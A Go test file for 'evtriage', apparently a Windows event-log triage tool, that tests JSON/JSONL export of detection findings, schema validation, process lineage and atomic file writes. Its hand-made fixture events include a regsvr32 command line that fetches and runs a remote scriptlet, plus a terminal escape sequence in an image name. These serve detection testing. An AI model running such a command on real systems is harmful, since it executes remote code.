package triage

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/evtriage/evtriage/internal/golden"
	"github.com/evtriage/evtriage/internal/winpath"
	"github.com/evtriage/evtriage/parser"
	"github.com/evtriage/evtriage/rules"
)

// handResult builds a Result from hand-made events and "matches" given as
// event index → rule, without the rules engine.
func handResult(t *testing.T) *Result {
	t.Helper()
	const (
		cmd = `C:\Windows\System32\cmd.exe`
		reg = `C:\Windows\System32\regsvr32.exe`
	)
	evs := []*parser.Event{
		s1("WS1", 1, at(1), 2, 200, cmd, 1, 100, `C:\Windows\explorer.exe`),
		s1("WS1", 2, at(2), 3, 300, reg, 2, 200, cmd, "CommandLine", `regsvr32 /s /u /i:http://x/a.sct scrobj.dll`),
		s7("WS1", 3, at(3), 3, 300, reg, `C:\Users\u\AppData\evil.dll`, "false"),
		s1("WS1", 4, at(4), 4, 400, `C:\Windows\System32\calc.exe`, 3, 300, reg),
		ev("Microsoft-Windows-Sysmon/Operational", 1, "WS1", 5, at(5), "ProcessGuid", guid(5), "Image", "\x1b]0;pwned\x07.exe", "", "unnamed", "X", "1", "X", "2"),
	}
	seed := &rules.Rule{ID: "seed", Title: "Seed", Level: rules.LevelMedium, Tags: []string{"attack.t1218.010"}}
	child := &rules.Rule{ID: "child", Title: "Child of regsvr32", Level: rules.LevelHigh}
	unsignedRule := &rules.Rule{ID: "unsigned", Title: "Unsigned load", Level: rules.LevelLow}
	procs, act := split(evs)
	tr := buildTree(procs, act, countActivity(act))
	var ms []pending
	add := func(i int, r *rules.Rule, supp ...string) {
		var ref *EventRef
		for _, rec := range procs {
			if rec.ref.Event == evs[i] {
				ref = rec.ref
			}
		}
		for _, rec := range act {
			if rec.ref.Event == evs[i] {
				ref = rec.ref
			}
		}
		ms = append(ms, pending{ref: ref, rule: r, details: []rules.MatchDetail{{Selection: "selection", Field: "Image", Modifier: "endswith", Value: `\regsvr32.exe`}}, suppressed: supp})
	}
	add(1, seed, "filter_main_other_flags")
	add(2, unsignedRule)
	add(3, child)
	add(4, seed)
	res := &Result{
		Sources:     []Source{{Path: "t.evtx", SHA256: strings.Repeat("ab", 32), Records: 5, Problems: []Problem{{Offset: 0x11000, Reason: "chunk 1: bad CRC"}}}},
		Loaded:      []*rules.Rule{seed, child, unsignedRule},
		Rejected:    []rules.Rejection{{Path: "bad.yml", Line: 3, Reason: "unknown modifier"}},
		Hosts:       []string{"WS1"},
		Processes:   tr.procs,
		Roots:       tr.roots(),
		Findings:    makeFindings(ms, tr),
		Events:      5,
		ToolVersion: "test",
		Generated:   time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
	}
	return res
}

func TestExportValidatesAgainstSchema(t *testing.T) {
	schema, err := decodeSchema()
	if err != nil {
		t.Fatal(err)
	}
	res := handResult(t)
	tests := []struct {
		name     string
		findings []*Finding
		format   Format
	}{
		{"json all", res.Findings, FormatJSON},
		{"json written", res.Written(), FormatJSON},
		{"json none", nil, FormatJSON},
		{"jsonl all", res.Findings, FormatJSONL},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := WriteExport(&b, res, tc.findings, tc.format); err != nil {
				t.Fatal(err)
			}
			if tc.format == FormatJSON {
				var v any
				if err := json.Unmarshal(b.Bytes(), &v); err != nil {
					t.Fatal(err)
				}
				for _, e := range validate(schema, v) {
					t.Error(e)
				}
				if n := len(v.(map[string]any)["findings"].([]any)); n != len(tc.findings) {
					t.Errorf("%d findings exported, want %d", n, len(tc.findings))
				}
				return
			}
			finding := map[string]any{"$ref": "#/$defs/finding"}
			sc := bufio.NewScanner(&b)
			n := 0
			for sc.Scan() {
				n++
				var v any
				if err := json.Unmarshal(sc.Bytes(), &v); err != nil {
					t.Fatalf("line %d: %v", n, err)
				}
				vd := &validator{root: schema}
				vd.check(finding, v, "$")
				for _, e := range vd.errs {
					t.Errorf("line %d: %s", n, e)
				}
			}
			if n != len(tc.findings) {
				t.Errorf("%d lines, want %d", n, len(tc.findings))
			}
		})
	}
}

// TestValidatorRejects makes sure the schema check can fail.
func TestValidatorRejects(t *testing.T) {
	schema, err := decodeSchema()
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := WriteExport(&b, handResult(t), handResult(t).Findings, FormatJSON); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name   string
		mutate func(doc map[string]any)
		want   string
	}{
		{"missing tool", func(d map[string]any) { delete(d, "tool") }, `missing required "tool"`},
		{"wrong type", func(d map[string]any) { d["sources"] = "x" }, "type string"},
		{"extra key", func(d map[string]any) { d["extra"] = 1 }, `unexpected property "extra"`},
		{"bad level", func(d map[string]any) {
			d["findings"].([]any)[0].(map[string]any)["rule"].(map[string]any)["level"] = "severe"
		}, "not in enum"},
		{"negative pid", func(d map[string]any) {
			d["findings"].([]any)[0].(map[string]any)["process"].(map[string]any)["pid"] = -1.0
		}, "below minimum"},
		{"non-string field", func(d map[string]any) {
			d["findings"].([]any)[0].(map[string]any)["event"].(map[string]any)["fields"].(map[string]any)["Image"] = 3.0
		}, "type integer"},
	}
	for _, tc := range tests {
		var doc map[string]any
		if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
			t.Fatal(err)
		}
		tc.mutate(doc)
		errs := strings.Join(validate(schema, doc), "\n")
		if !strings.Contains(errs, tc.want) {
			t.Errorf("%s: errors %q lack %q", tc.name, errs, tc.want)
		}
	}
}

func TestExportGolden(t *testing.T) {
	res := handResult(t)
	for _, tc := range []struct {
		name   string
		format Format
	}{{"export.json", FormatJSON}, {"export.jsonl", FormatJSONL}} {
		var b bytes.Buffer
		if err := WriteExport(&b, res, res.Findings, tc.format); err != nil {
			t.Fatal(err)
		}
		golden.Assert(t, tc.name, b.Bytes())
	}
}

func TestExportContent(t *testing.T) {
	res := handResult(t)
	var b bytes.Buffer
	if err := WriteExport(&b, res, res.Findings, FormatJSON); err != nil {
		t.Fatal(err)
	}
	var doc exportDoc
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	var lineage []string
	var child exportFinding
	for _, f := range doc.Findings {
		if f.Rule.ID == "child" {
			child = f
		}
	}
	for _, n := range child.Lineage {
		lineage = append(lineage, winpath.Base(n.Image))
	}
	if got := strings.Join(lineage, ">"); got != "explorer.exe>cmd.exe>regsvr32.exe>calc.exe" {
		t.Errorf("lineage %s", got)
	}
	if child.Process == nil || child.Process.PID != 400 {
		t.Errorf("process %+v", child.Process)
	}
	for _, f := range doc.Findings {
		if f.Rule.ID != "seed" || f.Event.RecordID != 5 {
			continue
		}
		want := map[string]string{"ProcessGuid": guid(5), "Image": "\x1b]0;pwned\x07.exe", "Data": "unnamed", "X": "1", "X#2": "2"}
		if len(f.Event.Fields) != len(want) {
			t.Errorf("fields %v, want %v", f.Event.Fields, want)
		}
		for k, v := range want {
			if f.Event.Fields[k] != v {
				t.Errorf("field %s = %q, want %q", k, f.Event.Fields[k], v)
			}
		}
	}
	// The parent of regsvr32 lists regsvr32 among its children.
	var reg exportFinding
	for _, f := range doc.Findings {
		if f.Rule.ID == "unsigned" {
			reg = f
		}
	}
	if len(reg.Children) != 1 || winpath.Base(reg.Children[0].Image) != "calc.exe" {
		t.Errorf("children of regsvr32: %+v", reg.Children)
	}
}

func TestExportAtomic(t *testing.T) {
	res := handResult(t)
	dir := t.TempDir()
	good := filepath.Join(dir, "out.json")
	if err := Export(good, res, res.Findings, FormatJSON); err != nil {
		t.Fatal(err)
	}
	before, _ := os.ReadFile(good)
	if !json.Valid(before) {
		t.Fatal("export is not valid JSON")
	}
	// Renaming over a folder fails: the error is reported, the temporary
	// file removed.
	sub := filepath.Join(dir, "taken")
	if err := os.Mkdir(sub, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(sub, "x"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := Export(sub, res, res.Findings, FormatJSON); err == nil {
		t.Error("export over a non-empty folder succeeded")
	}
	// An unknown format fails before anything is renamed into place.
	if err := Export(good, res, res.Findings, Format(9)); err == nil {
		t.Error("unknown format accepted")
	}
	after, _ := os.ReadFile(good)
	if !bytes.Equal(before, after) {
		t.Error("failed export changed the existing file")
	}
	if err := Export(filepath.Join(dir, "no", "such", "dir.json"), res, nil, FormatJSON); err == nil {
		t.Error("export into a missing folder succeeded")
	}
	names, _ := os.ReadDir(dir)
	var got []string
	for _, n := range names {
		got = append(got, n.Name())
	}
	sort.Strings(got)
	if strings.Join(got, ",") != "out.json,taken" {
		t.Errorf("folder holds %v; temporary files left behind?", got)
	}
}

// TestRealExportValidates validates exports of real hunts against the
// schema: the shared logs with every finding (suppressed too), and the
// generated month with a baseline window (the baseline object filled).
func TestRealExportValidates(t *testing.T) {
	schema, err := decodeSchema()
	if err != nil {
		t.Fatal(err)
	}
	files, _ := filepath.Glob(filepath.Join(sharedDir(t), "evtx", "*.evtx"))
	early, late := month(t)
	tests := []struct {
		name  string
		opts  Options
		files []string
	}{
		{"shared logs", Options{}, files},
		{"baseline window", Options{BaselineWindow: 30 * 24 * time.Hour}, []string{early, late}},
		{"baseline log", Options{Baseline: []string{early}, NewKey: KeyParentChild}, []string{late}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			tc.opts.Rules = builtin(t)
			h := NewHunter(tc.opts)
			for _, f := range tc.files {
				_ = h.AddFile(context.Background(), f, nil)
			}
			res := h.Finish()
			var b bytes.Buffer
			if err := WriteExport(&b, res, res.Findings, FormatJSON); err != nil {
				t.Fatal(err)
			}
			var v any
			if err := json.Unmarshal(b.Bytes(), &v); err != nil {
				t.Fatal(err)
			}
			for _, e := range validate(schema, v) {
				t.Error(e)
			}
			if len(res.Findings) == 0 {
				t.Error("no findings exported")
			}
		})
	}
}

func TestFieldMap(t *testing.T) {
	many := make([]parser.Field, 20000)
	for i := range many {
		many[i] = parser.Field{Name: "X", Value: fmt.Sprint(i)}
	}
	tests := []struct {
		name   string
		fields []parser.Field
		want   map[string]string
	}{
		{"plain", []parser.Field{{Name: "A", Value: "1"}, {Name: "B", Value: "2"}}, map[string]string{"A": "1", "B": "2"}},
		{"unnamed", []parser.Field{{Name: "", Value: "1"}, {Name: "", Value: "2"}}, map[string]string{"Data": "1", "Data#2": "2"}},
		{"suffix already taken", []parser.Field{{Name: "X", Value: "1"}, {Name: "X#2", Value: "a"}, {Name: "X", Value: "2"}, {Name: "X", Value: "3"}},
			map[string]string{"X": "1", "X#2": "a", "X#3": "2", "X#4": "3"}},
	}
	for _, tc := range tests {
		got := fieldMap(&EventRef{Event: &parser.Event{Fields: tc.fields}})
		if fmt.Sprint(got) != fmt.Sprint(tc.want) {
			t.Errorf("%s: %v, want %v", tc.name, got, tc.want)
		}
	}
	got := fieldMap(&EventRef{Event: &parser.Event{Fields: many}})
	if len(got) != len(many) || got["X#20000"] != "19999" {
		t.Errorf("%d fields kept of %d; X#20000 = %q", len(got), len(many), got["X#20000"])
	}
}
